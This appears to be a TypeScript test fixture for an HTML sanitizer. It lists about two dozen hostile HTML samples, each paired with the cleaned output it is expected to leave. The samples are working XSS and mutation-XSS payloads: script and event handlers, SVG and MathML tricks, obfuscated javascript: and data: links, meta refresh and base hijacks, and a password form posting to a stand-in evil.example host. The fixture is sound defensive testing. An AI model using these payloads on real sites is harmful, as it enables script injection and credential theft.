/** Where hostile html would send the visitor's browser, or what of the page it would take over. */
const away = "https://evil.example"

type Sample = {
  readonly is: string
  readonly html: string
  /** All that is left of it. */
  readonly leaves: string
}

const rel = 'rel="noopener noreferrer nofollow"'
const out = `${rel} target="_blank"`

/** What an operator could send by mistake, or somebody in the operator's name; none of it may do anything. */
export const hostileHtml: ReadonlyArray<Sample> = [
  { is: "a script", html: `a<script>ran=1</script><script src="${away}/1.js"></script>`, leaves: "a" },
  { is: "a picture that fails", html: `a<img src="${away}/2" onerror="ran=2">`, leaves: "a" },
  {
    is: "a picture in sizes",
    html: `a<picture><source srcset="${away}/3"><img srcset="${away}/4 2x"></picture>`,
    leaves: "a",
  },
  { is: "a handler", html: '<p onclick="ran=5" onpointerenter=ran=5>a</p>', leaves: "<p>a</p>" },
  {
    is: "a drawing that runs",
    html: `a<svg onload="ran=6"><script>ran=6</script><image href="${away}/6"/></svg>`,
    leaves: "a",
  },
  {
    is: "a drawing that animates a link",
    html: '<svg><a><animate attributeName=href values="javascript:ran=7"/><text>x</text></a></svg>a',
    leaves: "a",
  },
  {
    is: "formulas",
    html: '<math><mtext><table><mglyph><style><img src=x onerror="ran=8"></style></mglyph></table></mtext></math>a',
    leaves: "a",
  },
  {
    is: "text that turns into html when it is written twice",
    html: 'a<noscript><p title="</noscript><img src=x onerror=ran=9>"></p></noscript>',
    leaves: "a",
  },
  { is: "a comment with an end of its own", html: "<!--><img src=x onerror=ran=10>-->a", leaves: "--&gt;a" },
  {
    is: "a style sheet",
    html: `a<style>body{display:none;background:url(${away}/11)}</style><link rel="stylesheet" href="${away}/12">`,
    leaves: "a",
  },
  {
    is: "a style of its own",
    html: `<p style="position:fixed;inset:0;background:url(${away}/13)">a</p>`,
    leaves: "<p>a</p>",
  },
  {
    is: "classes and ids of the page",
    html: '<div id="app" class="sheet-sheet" slot="x">a</div>',
    leaves: "<div>a</div>",
  },
  {
    is: "names that would hide those of the document",
    html: '<form name="body"><input name="cookie" value="x">a</form>',
    leaves: "a",
  },
  {
    is: "a form that asks for the PIN",
    html: `<form action="${away}/14"><input type="password" autofocus onfocus="ran=14"><button formaction="${away}">a</button></form>`,
    leaves: "a",
  },
  {
    is: "a frame",
    html: `a<iframe src="${away}/15" srcdoc="<script>parent.ran=15</script>"></iframe><object data="${away}/16"></object><embed src="${away}/17">`,
    leaves: "a",
  },
  {
    is: "clips",
    html: `a<video src="${away}/18" poster="${away}/19" autoplay></video><audio src="${away}/20" autoplay></audio>`,
    leaves: "a",
  },
  {
    is: "another base and another page",
    html: `a<base href="${away}/"><meta http-equiv="refresh" content="0;url=${away}/21">`,
    leaves: "a",
  },
  {
    is: "a part of the page of its own",
    html: `a<template shadowrootmode="open"><script>ran=22</script></template><x-y is="z">b</x-y>`,
    leaves: "a",
  },
  {
    is: "a link that runs",
    html: '<a href="javascript:ran=23">a</a><a href=" jav&#x09;ascript:ran=23">b</a><a href="JAVASCRIPT&colon;ran=23">c</a>',
    leaves: "abc",
  },
  {
    is: "a link to what it brings along",
    html: '<a href="data:text/html,<script>ran=24</script>">a</a><a href="blob:x">b</a><a href="vbscript:ran=24">c</a>',
    leaves: "abc",
  },
  {
    is: "a link of an unknown kind",
    html: '<a href="intent://x#Intent;end">a</a><a href="mailto:a@b.example">b</a><a href="file:///etc">c</a><a>d</a>',
    leaves: "abcd",
  },
  {
    is: "a link that pings and takes the page along",
    html: `<a href="${away}/25" ping="${away}/26" target="_top" rel="opener" download onclick="ran=25">a</a>`,
    leaves: `<a href="${away}/25" ${out}>a</a>`,
  },
  { is: "a link to nowhere that can be", html: '<a href="https://">a</a>', leaves: "a" },
  {
    is: "a link without its protocol",
    html: '<a href="//evil.example/27">a</a>',
    leaves: `<a href="http://evil.example/27" ${out}>a</a>`,
  },
  {
    is: "links that may be",
    html: '<a href="tel:021234567">a</a><a href="line://ti/p/x">b</a><a href="http://a.example">c</a>',
    leaves: `<a href="tel:021234567" ${out}>a</a><a href="line://ti/p/x" ${out}>b</a><a href="http://a.example/" ${out}>c</a>`,
  },
  {
    is: "plain words",
    html: "<h3>a</h3><ul><li><b>b</b></li></ul><font color=red>c</font><table><tbody><tr><td colspan=2>d</td></tr></tbody></table>",
    leaves: '<h3>a</h3><ul><li><b>b</b></li></ul>c<table><tbody><tr><td colspan="2">d</td></tr></tbody></table>',
  },
]
